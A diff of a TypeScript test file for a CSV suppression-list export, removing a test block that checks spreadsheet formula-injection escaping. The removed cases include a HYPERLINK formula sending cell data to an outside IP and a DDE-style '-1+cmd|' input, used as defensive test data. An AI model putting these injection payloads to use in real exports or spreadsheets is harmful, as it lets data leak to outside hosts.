@@ -1,11 +1,10 @@
-import { parse } from 'csv-parse/sync';
 import fc from 'fast-check';
 import { recipientIdOf } from '../../domain/address.ts';
 import { rowsOf } from '../../domain/audience.ts';
 import type { AudienceRow } from '../../domain/audience-row.ts';
+import { csvRecord } from '../../domain/csv-line.ts';
 import type { Suppression } from '../../domain/suppression.ts';
 import {
-  csvRecord,
   type ImportedSuppression,
   readSuppression,
   suppressionColumns,
@@ -29,38 +28,6 @@ async function rowsIn(text: string): Promise<AudienceRow[]> {
 }
 
 const read = (values: Readonly<Record<string, unknown>>) => readSuppression({ row: 7, values }, defaults);
-
-describe('csvRecord', () => {
-  it.each([
-    ['=HYPERLINK("http://192.0.2.1/?"&A1)', `"'=HYPERLINK(""http://192.0.2.1/?""&A1)"`],
-    ['+1', "'+1"],
-    ['-1+cmd|', "'-1+cmd|"],
-    ['@SUM(A1)', "'@SUM(A1)"],
-    ['\t=1', "'\t=1"],
-    ['\r=1', `"'\r=1"`],
-    ["'=1", "''=1"],
-    ['a,b', '"a,b"'],
-    ['a"b', '"a""b"'],
-    ['a\nb', '"a\nb"'],
-    ['taro@example.com', 'taro@example.com'],
-    ["o'hara@example.com", "o'hara@example.com"],
-    ['', ''],
-  ])('writes %j as %j', (field, written) => {
-    expect(csvRecord([field])).toBe(written);
-  });
-
-  it('gives a spreadsheet no formula, whatever a field says', () => {
-    fc.assert(
-      fc.property(fc.array(fc.string({ unit: 'binary' }), { minLength: 2, maxLength: 8 }), (fields) => {
-        const [record = []] = parse(csvRecord(fields), { record_delimiter: '\r\n' }) as string[][];
-        expect(record).toHaveLength(fields.length);
-        for (const field of record) {
-          expect(field).not.toMatch(/^[=+\-@\t\r]/);
-        }
-      }),
-    );
-  });
-});
 
 describe('an export', () => {
   const word = fc.string({ unit: fc.constantFrom(...'a1=+-@\'", ;|:^~日\t'), minLength: 1, maxLength: 12 });
